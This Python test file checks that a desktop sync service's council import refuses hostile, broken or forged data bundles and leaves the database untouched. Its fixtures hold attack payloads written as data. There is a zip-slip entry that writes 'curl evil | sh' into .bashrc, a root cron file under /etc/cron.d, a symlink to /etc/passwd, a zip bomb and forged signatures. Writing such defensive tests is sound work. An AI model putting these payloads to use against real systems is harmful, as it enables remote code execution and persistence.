"""Hostile, broken and forged bundles at the council: each is refused with a message that says
what is wrong, and the database content is exactly as it was (SQLite and PostgreSQL)."""

from __future__ import annotations

import copy
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from desktop.services.devices import device_key_path
from desktop.services.sync.imports import ImportService
from desktop.services.sync.trust import TrustedDeviceService
from sync.codecs import (
    MANIFEST_FILE,
    SIGNATURE_FILE,
    encode_json,
)
from sync.keys import CouncilKeyPair, DeviceKey
from sync.manifest import Manifest
from sync.reader import open_bundle
from sync.writer import write_bundle
from tests.store.sync_helpers import Laptop, canonical_dump
from tests.sync.bundle_edits import resign, zip_members, zip_with_symlink


@dataclass
class Kit:
    """A laptop with a first bundle the council has, and a valid second bundle to spoil."""

    laptop: Laptop
    key: DeviceKey
    first: Path
    second: Path
    members: dict[str, bytes]
    tables: dict[str, list[dict[str, Any]]]
    manifest: Manifest
    folder: Path
    council_keys: CouncilKeyPair


@pytest.fixture(scope="module")
def kit(tmp_path_factory: pytest.TempPathFactory):
    root = tmp_path_factory.mktemp("hostile")
    laptop = Laptop.make(root, "Laptop H")
    laptop.register(3, seed=31)
    laptop.assess(1, seed=31)
    first = laptop.export(full=True)
    laptop.register(2, seed=32)
    laptop.assess(2, seed=32)
    second = laptop.export()
    key = DeviceKey.load(device_key_path(laptop.folder))
    bundle = open_bundle(second)
    bundle.verify(key.public_key_b64)
    with zipfile.ZipFile(second) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    made = Kit(
        laptop=laptop,
        key=key,
        first=first,
        second=second,
        members=members,
        tables=copy.deepcopy(bundle.all_records()),
        manifest=bundle.manifest,
        folder=root,
        council_keys=CouncilKeyPair.generate(root / "council-keys"),
    )
    yield made
    laptop.close()


# -- ways of making a bad bundle --------------------------------------------------------------


def _edited_json(kit: Kit, table: str, edit: Callable[[list[dict[str, Any]]], Any]) -> dict:
    records = copy.deepcopy(kit.tables[table])
    edit(records)
    members = dict(kit.members)
    members[f"data/{table}.json"] = encode_json(records)
    return resign(members, kit.key)


def _rewritten(kit: Kit, path: Path, *, key: DeviceKey | None = None, **manifest: Any) -> Path:
    tables = copy.deepcopy(kit.tables)
    edit = manifest.pop("edit", None)
    if edit is not None:
        edit(tables)
    write_bundle(
        path,
        manifest=kit.manifest.model_copy(update=manifest),
        tables=tables,
        signing_key=key or kit.key,
    )
    return path


def truncated(kit: Kit, path: Path) -> Path:
    path.write_bytes(kit.second.read_bytes()[: kit.second.stat().st_size // 2])
    return path


def not_a_zip(kit: Kit, path: Path) -> Path:
    path.write_bytes(b"PK\x03\x04 this is not really a zip file" * 10)
    return path


def empty_file(kit: Kit, path: Path) -> Path:
    path.write_bytes(b"")
    return path


def zip_slip(kit: Kit, path: Path) -> Path:
    return zip_members(path, kit.members | {"../../.bashrc": b"curl evil | sh"})


def absolute_path(kit: Kit, path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in kit.members.items():
            archive.writestr(name, data)
        info = zipfile.ZipInfo("x")
        info.filename = "/etc/cron.d/evil"
        archive.writestr(info, b"* * * * * root evil")
    return path


def symlink_entry(kit: Kit, path: Path) -> Path:
    return zip_with_symlink(path, kit.members, "data/organisations.csv", b"/etc/passwd")


def zip_bomb(kit: Kit, path: Path) -> Path:
    return zip_members(path, kit.members | {"data/responses.json": b"[" + b" " * 60_000_000 + b"]"})


def unexpected_file(kit: Kit, path: Path) -> Path:
    return zip_members(path, kit.members | {"data/run-me.exe": b"MZ..."})


def wrong_hash(kit: Kit, path: Path) -> Path:
    members = dict(kit.members)
    members["data/organisations.json"] = members["data/organisations.json"].replace(
        b'"name":"', b'"name":"X', 1
    )
    return zip_members(path, members)


def wrong_signature(kit: Kit, path: Path) -> Path:
    members = _edited_json(kit, "organisations", lambda rs: rs[0].update(notes="forged"))
    # the forger recomputed the hashes but signed with a key of their own
    forged = resign(members, DeviceKey.generate())
    forged[SIGNATURE_FILE] = forged[SIGNATURE_FILE].replace(
        json.loads(forged[SIGNATURE_FILE])["public_key"].encode(), kit.key.public_key_b64.encode()
    )
    return zip_members(path, forged)


def signed_by_another_key(kit: Kit, path: Path) -> Path:
    return _rewritten(kit, path, key=DeviceKey.generate())


def last_row_fails_validation(kit: Kit, path: Path) -> Path:
    return zip_members(path, _edited_json(kit, "responses", lambda rs: rs[-1].update(rev=0)))


def missing_organisation(kit: Kit, path: Path) -> Path:
    ghost = "0f0f0f0f-0000-4000-8000-000000000000"
    return zip_members(
        path, _edited_json(kit, "assessments", lambda rs: rs[-1].update(organisation_id=ghost))
    )


def full_bundle_missing_reference(kit: Kit, path: Path) -> Path:
    return _rewritten(kit, path, full=True)


def csv_only(kit: Kit, path: Path) -> Path:
    members = {n: d for n, d in kit.members.items() if n != "data/assessments.json"}
    return zip_members(path, members)


def future_format(kit: Kit, path: Path) -> Path:
    members = dict(kit.members)
    manifest = json.loads(members[MANIFEST_FILE])
    manifest["format_version"] = 99
    members[MANIFEST_FILE] = json.dumps(manifest).encode()
    return zip_members(path, resign(members, kit.key))


def duplicate_ids(kit: Kit, path: Path) -> Path:
    def twin(records: list[dict[str, Any]]) -> None:
        records.append(dict(records[0], notes="a different story"))

    members = _edited_json(kit, "organisations", twin)
    manifest = json.loads(members[MANIFEST_FILE])
    manifest["counts"]["organisations"] += 1
    members[MANIFEST_FILE] = json.dumps(manifest).encode()
    return zip_members(path, resign(members, kit.key))


def oversized_field(kit: Kit, path: Path) -> Path:
    return zip_members(
        path, _edited_json(kit, "organisations", lambda rs: rs[-1].update(notes="x" * 200_001))
    )


def invalid_utf8(kit: Kit, path: Path) -> Path:
    members = dict(kit.members)
    members["data/organisations.json"] = members["data/organisations.json"].replace(
        b'"name":"', b'"name":"\xff\xfe', 1
    )
    return zip_members(path, resign(members, kit.key))


def nul_bytes(kit: Kit, path: Path) -> Path:
    return zip_members(
        path, _edited_json(kit, "organisations", lambda rs: rs[0].update(notes="before\x00after"))
    )


def far_future_stamp(kit: Kit, path: Path) -> Path:
    def future(records: list[dict[str, Any]]) -> None:
        stamps = records[0]["_stamps"]
        key = next(iter(stamps))
        stamps[key] = dict(stamps[key], at="2999-01-01T00:00:00.000Z")

    return zip_members(path, _edited_json(kit, "organisations", future))


def impossible_date(kit: Kit, path: Path) -> Path:
    return zip_members(
        path,
        _edited_json(kit, "organisations", lambda rs: rs[0].update(consent_date="2026-02-30")),
    )


def unknown_field(kit: Kit, path: Path) -> Path:
    return zip_members(
        path, _edited_json(kit, "organisations", lambda rs: rs[0].update(is_admin=True))
    )


def counts_disagree(kit: Kit, path: Path) -> Path:
    members = dict(kit.members)
    manifest = json.loads(members[MANIFEST_FILE])
    manifest["counts"]["responses"] += 5
    members[MANIFEST_FILE] = json.dumps(manifest).encode()
    return zip_members(path, resign(members, kit.key))


def field_pack(kit: Kit, path: Path) -> Path:
    from sync.manifest import PackInfo

    pack = PackInfo(for_device_id=None, scope="all", wards=[], organisation_ids=[])
    return _rewritten(kit, path, kind="field-pack", pack=pack)


def claims_to_be_the_council(kit: Kit, path: Path, council_id: str = "") -> Path:
    return _rewritten(kit, path, device_id=council_id)


def encrypted_without_key(kit: Kit, path: Path) -> Path:
    return _encrypted(kit, path)


def encrypted_and_tampered(kit: Kit, path: Path) -> Path:
    _encrypted(kit, path)
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))
    return path


def _encrypted(kit: Kit, path: Path) -> Path:
    write_bundle(
        path,
        manifest=kit.manifest,
        tables=kit.tables,
        signing_key=kit.key,
        encrypt_to=str(kit.council_keys.public_key_path),
    )
    return path


def database_refuses_snapshot(kit: Kit, path: Path) -> Path:
    """Valid to the reader, but a second copy of a form under another id breaks the database's
    unique constraint after the organisations were already written: all must roll back."""

    def second_copy(tables: dict[str, list[dict[str, Any]]]) -> None:
        held = open_bundle(kit.first)
        held.verify(kit.key.public_key_b64)
        snapshot = dict(held.all_records()["form_snapshots"][0])
        snapshot["id"] = "5a5a5a5a-0000-4000-8000-000000000000"
        tables["form_snapshots"] = [snapshot]

    return _rewritten(kit, path, edit=second_copy)


@dataclass(frozen=True)
class Case:
    make: Callable[..., Path]
    message: str
    council_key: bool = False


CASES: dict[str, Case] = {
    "truncated zip": Case(truncated, "not a zip file, or it is damaged or incomplete"),
    "not a zip": Case(not_a_zip, "not a GAP Field Kit bundle"),
    "empty file": Case(empty_file, "not a GAP Field Kit bundle"),
    "zip slip path": Case(zip_slip, "climbs out of the bundle"),
    "absolute path": Case(absolute_path, "absolute path"),
    "symlink entry": Case(symlink_entry, "symbolic link"),
    "zip bomb": Case(zip_bomb, "bomb"),
    "unexpected file": Case(unexpected_file, "unexpected file data/run-me.exe"),
    "wrong hash": Case(wrong_hash, "data/organisations.json has been changed or damaged"),
    "wrong signature": Case(wrong_signature, "signature does not match"),
    "signed by another key": Case(signed_by_another_key, "signed with a different key"),
    "last row fails validation": Case(last_row_fails_validation, "data/responses.json, record"),
    "foreign key to missing organisation": Case(
        missing_organisation, "neither in this bundle nor in the council database"
    ),
    "full bundle with dangling reference": Case(
        full_bundle_missing_reference, "which is not in this full bundle"
    ),
    "csv only, json missing": Case(csv_only, "data/assessments.json is missing"),
    "future format version": Case(future_format, "newer GAP Field Kit"),
    "duplicate ids, different content": Case(duplicate_ids, "with different content"),
    "oversized field": Case(oversized_field, "notes is too long"),
    "invalid utf-8": Case(invalid_utf8, "not valid UTF-8"),
    "nul bytes": Case(nul_bytes, "NUL"),
    "timestamp far in the future": Case(far_future_stamp, "more than a day after"),
    "impossible date": Case(impossible_date, "consent_date should be a real date"),
    "unknown field": Case(unknown_field, "is_admin is not a field this format knows"),
    "counts disagree with manifest": Case(counts_disagree, "manifest.json says"),
    "field pack at the council": Case(field_pack, "is a field pack"),
    "claims to be the council itself": Case(claims_to_be_the_council, "this installation"),
    "encrypted, no council key": Case(encrypted_without_key, "encrypted"),
    "encrypted and tampered": Case(encrypted_and_tampered, "could not be decrypted", True),
    "database refuses a record": Case(database_refuses_snapshot, "database refused"),
}


def _council_with_first_bundle(store, kit: Kit) -> ImportService:
    TrustedDeviceService(store).enrol(kit.laptop.info())
    service = ImportService(store, council_key=kit.council_keys.private_key_path)
    assert service.import_bundle(kit.first).status == "merged"
    return service


def test_the_unspoiled_second_bundle_would_change_the_database(store, kit: Kit) -> None:
    service = _council_with_first_bundle(store, kit)
    before = canonical_dump(store)
    assert service.import_bundle(kit.second).status == "merged"
    assert canonical_dump(store) != before


@pytest.mark.parametrize("case_name", list(CASES))
def test_hostile_bundle_is_rejected_and_leaves_the_database_unchanged(
    store, kit: Kit, case_name: str, tmp_path: Path
) -> None:
    case = CASES[case_name]
    service = _council_with_first_bundle(store, kit)
    if not case.council_key:
        service = ImportService(store, council_key=None)
        # no key in settings or the data folder either
        assert service.council_key_path_or_key() is None
    path = tmp_path / "hostile.gapkit"
    if case.make is claims_to_be_the_council:
        bundle = claims_to_be_the_council(kit, path, council_id=store.device_id)
    else:
        bundle = case.make(kit, path)
    before = canonical_dump(store)

    summary = service.import_bundle(bundle)

    assert summary.rejected, summary
    assert case.message in summary.message
    assert summary.message.startswith("hostile.gapkit") or "hostile.gapkit" in summary.message
    assert canonical_dump(store) == before
    assert service.history()[0].status == "rejected"
    assert service.history()[0].message == summary.message


def test_bundle_from_an_unknown_device_is_kept_waiting_not_merged(store, kit: Kit) -> None:
    service = ImportService(store)
    before = canonical_dump(store)
    summary = service.import_bundle(kit.first)
    assert summary.status == "waiting" and "not enrolled" in summary.message
    assert canonical_dump(store) == before


def test_bundle_from_a_revoked_device_is_rejected(store, kit: Kit) -> None:
    service = _council_with_first_bundle(store, kit)
    TrustedDeviceService(store).revoke(kit.laptop.device_id)
    before = canonical_dump(store)
    summary = service.import_bundle(kit.second)
    assert summary.rejected and "revoked" in summary.message
    assert canonical_dump(store) == before


def test_bundle_signed_with_a_known_key_claiming_another_device_is_rejected(
    store, kit: Kit, tmp_path: Path
) -> None:
    service = _council_with_first_bundle(store, kit)
    impostor = _rewritten(
        kit, tmp_path / "impostor.gapkit", device_id="1b1b1b1b-0000-4000-8000-000000000000"
    )
    before = canonical_dump(store)
    summary = service.import_bundle(impostor)
    assert summary.rejected and "signed with the key of Laptop H" in summary.message
    assert canonical_dump(store) == before


def test_rejections_name_the_file_and_record(store, kit: Kit, tmp_path: Path) -> None:
    service = _council_with_first_bundle(store, kit)
    summary = service.import_bundle(last_row_fails_validation(kit, tmp_path / "hostile.gapkit"))
    last = len(kit.tables["responses"])
    record_id = kit.tables["responses"][-1]["id"]
    assert f"data/responses.json, record {last} (id {record_id}): rev" in summary.message


def test_zip_bytes_are_never_written_outside_the_data_folder(store, kit: Kit) -> None:
    service = _council_with_first_bundle(store, kit)
    service.import_bundle(zip_slip(kit, kit.folder / "slip.gapkit"))
    assert not (kit.folder.parent / ".bashrc").exists()
    assert not (store.data_dir.parent / ".bashrc").exists()
